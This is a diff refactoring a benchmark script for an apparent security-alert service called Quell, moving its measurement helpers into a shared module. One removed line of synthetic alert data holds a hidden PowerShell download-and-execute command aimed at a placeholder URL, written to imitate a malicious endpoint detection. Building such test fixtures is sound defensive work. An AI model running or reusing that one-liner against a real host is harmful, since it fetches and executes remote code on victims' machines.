@@ -1,8 +1,6 @@
 import 'reflect-metadata';
-import { randomBytes } from 'node:crypto';
 import { readFileSync, writeFileSync } from 'node:fs';
-import { execFileSync } from 'node:child_process';
-import { Client, WorkflowNotFoundError } from '@temporalio/client';
+import { Client } from '@temporalio/client';
 import { DataSource } from 'typeorm';
 import { inParallel } from '../src/infra/in-parallel.js';
 import { AlertsRepository } from '../src/alerts/alerts.repository.js';
@@ -13,17 +11,30 @@ import { nativeAlertSchema, type NativeAlert } from '../src/domain/alert.js';
 import { createLogger } from '../src/infra/logger.js';
 import { actionWorkflowId, alertWorkflowId } from '../workflows/ids.js';
 import { runAcceptLoad } from './lib/accept-load.js';
-import { makeBenchAlert } from './lib/bench-alerts.js';
+import {
+  activityCount,
+  bareRate,
+  type BenchTarget,
+  CONCURRENCY,
+  cpuSampler,
+  inTurns,
+  investigations,
+  makeAlert,
+  pct,
+  post,
+  resultOf,
+  ROUNDS,
+  run,
+  say,
+  seedDevices,
+  throughput,
+  waitCorrelated,
+} from './lib/bench-measure.js';
 import { FakeGraphSource } from './lib/fake-graph-source.js';
 import { dropDatabase, freshDatabase, startStack, type Stack } from './lib/stack.js';
 
-const say = (s: string) => process.stderr.write(`${s}\n`);
 const N = Number(process.env.BENCH_ALERTS ?? 2000);
-const CONCURRENCY = Number(process.env.BENCH_CONCURRENCY ?? 64);
 const STORED = Number(process.env.BENCH_STORED ?? 200_000);
-/** Quell and its bare baseline take turns this many times (throughput and investigations). */
-const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 2);
-const run = randomBytes(3).toString('hex');
 /** `BENCH_SECTIONS=pull,alerts,investigations,approvals,correlation,storm,accept` runs a part (default: all). */
 const SECTIONS = new Set((process.env.BENCH_SECTIONS ?? 'pull,alerts,investigations,approvals,correlation,storm,accept').split(','));
 /** The alert storm: alerts posted as fast as accepted, then drained. */
@@ -38,77 +49,6 @@ const POSTS_IN_FLIGHT = Number(process.env.BENCH_POSTS_IN_FLIGHT ?? 4);
 const PULL_ALERTS = Number(process.env.BENCH_PULL_ALERTS ?? 20_000);
 const PULL_PAGE = 500;
 const PUSH_IN_FLIGHT = Number(process.env.BENCH_PUSH_IN_FLIGHT ?? 1);
-
-const makeAlert = (i: number) => makeBenchAlert(run, i);
-
-const pct = (xs: number[], p: number) => {
-  const s = [...xs].sort((a, b) => a - b);
-  return s.length ? s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))] : NaN;
-};
-
-async function correlatedCount(db: DataSource, since: Date): Promise<number> {
-  const [r] = await db.query('SELECT count(*)::int AS n FROM alerts WHERE correlated_at IS NOT NULL AND received_at >= $1', [since]);
-  return r.n;
-}
-
-async function waitCorrelated(db: DataSource, since: Date, expected: number, label: string): Promise<void> {
-  let last = -1;
-  for (;;) {
-    const n = await correlatedCount(db, since);
-    if (n !== last) process.stderr.write(`\r  ${label}: ${n}/${expected} correlated`);
-    last = n;
-    if (n >= expected) break;
-    await new Promise((r) => setTimeout(r, 200));
-  }
-  process.stderr.write('\n');
-}
-
-/** Runs `workflows` bare workflows of `activities` no-op activities each, `CONCURRENCY` at a time; returns workflows per second. */
-async function bareRate(stack: Stack, client: Client, workflows: number, activities: number, idPrefix: string): Promise<number> {
-  const started = Date.now();
-  let done = 0;
-  await inParallel(
-    Array.from({ length: workflows }, (_, i) => i),
-    CONCURRENCY,
-    async (i) => {
-      await client.workflow.execute('benchBaselineWorkflow', {
-        workflowId: `bench-${run}-${idPrefix}-${i}`,
-        taskQueue: stack.config.temporal.taskQueue,
-        args: [activities],
-      });
-      if (++done % 250 === 0) process.stderr.write(`\r  ${done}/${workflows}`);
-    },
-  );
-  process.stderr.write('\n');
-  return workflows / ((Date.now() - started) / 1000);
-}
-
-/** Lab devices `<prefix>-0 … <prefix>-<n>` for the enrichment and remediation the benchmark drives. */
-async function seedDevices(db: DataSource, prefix: string, n: number): Promise<void> {
-  await db.query(
-    `INSERT INTO lab_devices (device_id, hostname, os, device_group, risk, isolated, app_restricted, logged_on_users, ips, last_seen_at)
-     SELECT 'dev-' || $1 || '-' || g, $1 || '-' || g, 'Windows 11', 'Default', 'low', false, false, '{}', '{}', now() FROM generate_series(0, $2) g
-     ON CONFLICT DO NOTHING`,
-    [prefix, n],
-  );
-}
-
-async function post(stack: Stack, headers: Record<string, string>, body: unknown, format = 'native'): Promise<void> {
-  const res = await fetch(`${stack.baseUrl}/api/v1/alerts?format=${format}`, { method: 'POST', headers, body: JSON.stringify(body) });
-  if (res.status !== 202) throw new Error(`POST /alerts answered ${res.status}: ${await res.text()}`);
-}
-
-/** The result of a workflow the worker's dispatcher starts after the commit: waits for it to exist first. */
-async function resultOf(client: Client, workflowId: string): Promise<unknown> {
-  for (;;) {
-    try {
-      return await client.workflow.getHandle(workflowId).result();
-    } catch (err) {
-      if (!(err instanceof WorkflowNotFoundError)) throw err;
-      await new Promise((r) => setTimeout(r, 50));
-    }
-  }
-}
 
 /**
  * Posts one batch, waiting out every 429 (backpressure) for its Retry-After, but not past `until`:
@@ -129,115 +69,6 @@ async function postAccepted(stack: Stack, headers: Record<string, string>, body:
   }
 }
 
-/**
- * CPU seconds used by this process and its descendants (the worker process, PostgreSQL, the
- * Temporal dev server), grouped by process, between `start()` and `stop()`: which one saturates a core.
- */
-function cpuSampler() {
-  const read = () => {
-    const out = execFileSync('ps', ['-eo', 'pid=,ppid=,args='], { encoding: 'utf8' });
-    // User + system time from /proc in clock ticks (1/100 s): ps rounds to whole seconds, which
-    // hides the many short-lived PostgreSQL backends.
-    const ticks = (pid: number) => {
-      try {
-        const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ');
-        return Number(fields[11]) + Number(fields[12]);
-      } catch {
-        return 0;
-      }
-    };
-    const rows = out
-      .trim()
-      .split('\n')
-      .map((l) => /^\s*(\d+)\s+(\d+)\s+(.*)$/.exec(l))
-      .filter((m): m is RegExpExecArray => m !== null)
-      .map((m) => ({ pid: Number(m[1]), ppid: Number(m[2]), seconds: 0, args: m[3] }));
-    const mine = new Set([process.pid]);
-    for (let grew = true; grew;) {
-      grew = false;
-      for (const r of rows) {
-        if (mine.has(r.pid) || !mine.has(r.ppid)) continue;
-        mine.add(r.pid);
-        grew = true;
-      }
-    }
-    const groups = new Map<string, number>();
-    for (const r of rows) {
-      if (!mine.has(r.pid)) continue;
-      r.seconds = ticks(r.pid) / 100;
-      const name =
-        r.pid === process.pid
-          ? 'bench + Quell API (node)'
-          : r.args.includes('main.js')
-            ? 'Quell worker (node)'
-            : r.args.includes('postgres')
-              ? 'PostgreSQL (all backends)'
-              : r.args.includes('temporal')
-                ? 'Temporal dev server'
-                : r.args.split(' ')[0];
-      groups.set(name, (groups.get(name) ?? 0) + r.seconds);
-    }
-    return groups;
-  };
-  let before = new Map<string, number>();
-  let started = 0;
-  return {
-    start() {
-      before = read();
-      started = Date.now();
-    },
-    /** Per process group, the share of one core used over the interval (100 = one core saturated). */
-    stop(): Record<string, number> {
-      const after = read();
-      const wall = (Date.now() - started) / 1000;
-      return Object.fromEntries(
-        [...after]
-          .map(([name, secs]) => [name, Math.round((100 * (secs - (before.get(name) ?? 0))) / wall)])
-          .sort((a, b) => Number(b[1]) - Number(a[1])),
-      );
-    },
-  };
-}
-
-/**
- * Quell and its bare baseline take turns in ROUNDS rounds of `per` each, so that both see the same
- * server conditions (a slower stretch of the dev server or the database falls on both, not on
- * whichever ran second). `bare` returns its rate; the result is both rates per second.
- */
-async function inTurns(per: number, quell: (round: number) => Promise<void>, bare: (round: number) => Promise<number>) {
-  let quellSeconds = 0;
-  let bareSeconds = 0;
-  for (let r = 0; r < ROUNDS; r++) {
-    const started = Date.now();
-    await quell(r);
-    quellSeconds += (Date.now() - started) / 1000;
-    bareSeconds += per / (await bare(r));
-  }
-  return { quellPerSec: (ROUNDS * per) / quellSeconds, barePerSec: (ROUNDS * per) / bareSeconds };
-}
-
-/** Quell alert → incident through the HTTP API vs a bare workflow running as many no-op activities as the alert workflow runs. */
-async function throughput(stack: Stack, db: DataSource, client: Client, headers: Record<string, string>, activities: number) {
-  const per = Math.ceil(N / ROUNDS);
-  say(
-    `[1/6] throughput: ${ROUNDS} rounds of ${per} alerts through the HTTP API, then ${per} bare workflows with ${activities} no-op activit${activities === 1 ? 'y' : 'ies'} each, ${CONCURRENCY} in flight`,
-  );
-  const rates = await inTurns(
-    per,
-    async (r) => {
-      const since = new Date();
-      await inParallel(
-        Array.from({ length: per }, (_, i) => r * per + i),
-        CONCURRENCY,
-        (i) => post(stack, headers, makeAlert(i)),
-      );
-      await waitCorrelated(db, since, per, `round ${r + 1}: Quell`);
-    },
-    (r) => bareRate(stack, client, per, activities, `base-${r}`),
-  );
-  return { base: { activities, workflowsPerSec: rates.barePerSec }, quell: { alertsPerSec: rates.quellPerSec } };
-}
-
 async function latency(stack: Stack, db: DataSource, headers: Record<string, string>, rate: number) {
   const seconds = Number(process.env.BENCH_LATENCY_SECONDS ?? 20);
   const total = Math.max(50, Math.round(rate * seconds));
@@ -249,7 +80,7 @@ async function latency(stack: Stack, db: DataSource, headers: Record<string, str
     const due = started + (i / rate) * 1000;
     const wait = due - Date.now();
     if (wait > 0) await new Promise((r) => setTimeout(r, wait));
-    inflight.push(post(stack, headers, makeAlert(N + i)));
+    inflight.push(post(stack.baseUrl, headers, makeAlert(N + i)));
   }
   await Promise.all(inflight);
   await waitCorrelated(db, since, total, 'half load');
@@ -272,7 +103,7 @@ async function acceptCeiling(stack: Stack, db: DataSource, headers: Record<strin
     4,
     (b) =>
       post(
-        stack,
+        stack.baseUrl,
         headers,
         Array.from({ length: size }, (_, j) => makeAlert(10 * N + b * size + j)),
       ),
@@ -355,7 +186,7 @@ async function storm(stack: Stack, db: DataSource, client: Client, headers: Reco
   await sampler;
   const cpuShare = cpu.stop();
   say(`[storm] bare 1-activity workflow loop: ${STORM_BARE} workflows, ${CONCURRENCY} in flight`);
-  const bare = await bareRate(stack, client, STORM_BARE, 1, 'storm-bare');
+  const bare = await bareRate({ client, taskQueue: stack.config.temporal.taskQueue }, STORM_BARE, 1, 'storm-bare');
   const drainPerSec = STORM_ALERTS / drainSeconds;
   return {
     alerts: STORM_ALERTS,
@@ -481,7 +312,7 @@ async function pullVsPush(stack: Stack, db: DataSource, fake: FakeGraphSource, h
       const since = new Date();
       const started = Date.now();
       const chunks = Array.from({ length: Math.ceil(per / PULL_PAGE) }, (_, c) => alerts.slice(c * PULL_PAGE, (c + 1) * PULL_PAGE));
-      await inParallel(chunks, PUSH_IN_FLIGHT, (chunk) => post(stack, headers, chunk, 'msgraph'));
+      await inParallel(chunks, PUSH_IN_FLIGHT, (chunk) => post(stack.baseUrl, headers, chunk, 'msgraph'));
       await waitCorrelated(db, since, per, `round ${r + 1}: pushed`);
       return per / ((Date.now() - started) / 1000);
     },
@@ -661,90 +492,6 @@ async function storeHistory(db: DataSource) {
   const [{ n: storedNow }] = await db.query(`SELECT count(*)::int AS n FROM alerts WHERE source = 'bench'`);
   if (storedNow !== STORED) throw new Error(`the store holds ${storedNow} alerts, not ${STORED}`);
   await db.query('ANALYZE');
-}
-
-/** Activities a finished workflow ran, from its history: regular ones and local ones (recorded as markers). */
-async function activityCount(client: Client, workflowId: string): Promise<{ regular: number; local: number; total: number }> {
-  const events = (await client.workflow.getHandle(workflowId).fetchHistory()).events ?? [];
-  const regular = events.filter((e) => e.activityTaskScheduledEventAttributes).length;
-  const local = events.filter((e) => e.markerRecordedEventAttributes?.markerName === 'core_local_activity').length;
-  return { regular, local, total: regular + local };
-}
-
-async function investigations(stack: Stack, db: DataSource, client: Client, headers: Record<string, string>) {
-  const n = Number(process.env.BENCH_INVESTIGATIONS ?? 500);
-  say(`[4/6] investigations: ${n} alerts, each its own incident, through a six-step playbook`);
-  await seedDevices(db, 'bench-inv', n + 100);
-  const alert = (i: number) => ({
-    externalId: `bench-inv-${run}-${i}`,
-    source: 'endpoint',
-    type: 'bench_typical',
-    title: `Bench investigation ${i}`,
-    severity: 'medium',
-    entities: [
-      { type: 'device', hostname: `bench-inv-${i}` },
-      { type: 'user', upn: `bench-inv-${run}-${i}@bench.example` },
-      { type: 'process', commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"' },
-    ],
-  });
-  // One warm-up investigation also tells how many activities the path runs (alert + investigation workflow).
-  await post(stack, headers, alert(-1));
-  const [warm] = await waitInvestigations(db, 1, 'warm-up', new Date(0));
-  const [warmAlert] = await db.query(`SELECT id FROM alerts WHERE source = 'endpoint' AND external_id = $1`, [alert(-1).externalId]);
-  const [inv, al] = [await activityCount(client, warm.workflowId), await activityCount(client, alertWorkflowId(warmAlert.id))];
-  const perAlert = inv.total + al.total;
-  const local = inv.local + al.local;
-
-  const per = Math.ceil(n / ROUNDS);
-  say(
-    `  ${ROUNDS} rounds of ${per} investigations, then ${per} bare workflows of ${perAlert} no-op activities each (Quell runs ${local} of its ${perAlert} as local activities; the baseline runs all as regular ones)`,
-  );
-  const durations: number[] = [];
-  const { quellPerSec: perSec, barePerSec: baselinePerSec } = await inTurns(
-    per,
-    async (r) => {
-      const since = new Date();
-      await inParallel(
-        Array.from({ length: per }, (_, i) => r * per + i),
-        CONCURRENCY,
-        (i) => post(stack, headers, alert(i)),
-      );
-      durations.push(...(await waitInvestigations(db, per, `round ${r + 1}: investigations`, since)).map((row) => row.ms));
-    },
-    (r) => bareRate(stack, client, per, perAlert, `inv-base-${r}`),
-  );
-  return {
-    investigations: ROUNDS * per,
-    activitiesPerAlert: perAlert,
-    localActivitiesPerAlert: local,
-    perSec,
-    baselinePerSec,
-    ratio: perSec / baselinePerSec,
-    durationMs: { p50: pct(durations, 50), p95: pct(durations, 95), p99: pct(durations, 99) },
-  };
-}
-
-async function waitInvestigations(
-  db: DataSource,
-  expected: number,
-  label: string,
-  since: Date,
-): Promise<{ workflowId: string; ms: number }[]> {
-  let last = -1;
-  for (;;) {
-    const rows: { workflowId: string; ms: number }[] = await db.query(
-      `SELECT workflow_id AS "workflowId", extract(epoch FROM ended_at - started_at) * 1000 AS ms FROM investigations
-       WHERE started_at >= $1 AND ended_at IS NOT NULL ORDER BY started_at`,
-      [since],
-    );
-    if (rows.length !== last) process.stderr.write(`\r  ${label}: ${rows.length}/${expected} finished`);
-    last = rows.length;
-    if (rows.length >= expected) {
-      process.stderr.write('\n');
-      return rows.map((r) => ({ ...r, ms: Number(r.ms) }));
-    }
-    await new Promise((r) => setTimeout(r, 250));
-  }
 }
 
 /** Waits until none of these workflows has a workflow task to run: the backlog has settled. */
@@ -936,12 +683,13 @@ async function main() {
     const db = stack.app.get(DataSource);
     const client = stack.app.get(Client);
     const headers = { Authorization: `Bearer ${await stack.key('ingest')}`, 'Content-Type': 'application/json' };
+    const target: BenchTarget = { baseUrl: stack.baseUrl, taskQueue: stack.config.temporal.taskQueue, db, client, headers };
     // Warm up both paths so neither pays for JIT and connection set-up; one warm-up alert also
     // tells how many activities the alert workflow runs, which the baseline then matches.
     await inParallel(
       Array.from({ length: 50 }, (_, i) => i),
       16,
-      (i) => post(stack, headers, makeAlert(20 * N + i)),
+      (i) => post(stack.baseUrl, headers, makeAlert(20 * N + i)),
     );
     const [sample] = await db.query(`SELECT id FROM alerts ORDER BY received_at LIMIT 1`);
     await resultOf(client, alertWorkflowId(sample.id));
@@ -949,11 +697,13 @@ async function main() {
     const pull = fake ? await pullVsPush(stack, db, fake, headers) : undefined;
     const alertsPart = SECTIONS.has('alerts');
     const { base, quell } = alertsPart
-      ? await throughput(stack, db, client, headers, (await activityCount(client, alertWorkflowId(sample.id))).total)
+      ? await throughput(target, (await activityCount(client, alertWorkflowId(sample.id))).total, { alerts: N, label: '[1/6] ' })
       : {};
     const lat = quell ? await latency(stack, db, headers, quell.alertsPerSec / 2) : undefined;
     const accept = alertsPart ? await acceptCeiling(stack, db, headers) : undefined;
-    const inv = SECTIONS.has('investigations') ? await investigations(stack, db, client, headers) : undefined;
+    const inv = SECTIONS.has('investigations')
+      ? await investigations(target, { investigations: Number(process.env.BENCH_INVESTIGATIONS ?? 500), label: '[4/6] ' })
+      : undefined;
     const approval = SECTIONS.has('approvals') ? await approvals(stack, db, client) : [];
     const scaling = SECTIONS.has('correlation') ? await correlationScaling(db, stack) : undefined;
     const stormed = SECTIONS.has('storm') ? await storm(stack, db, client, headers) : undefined;
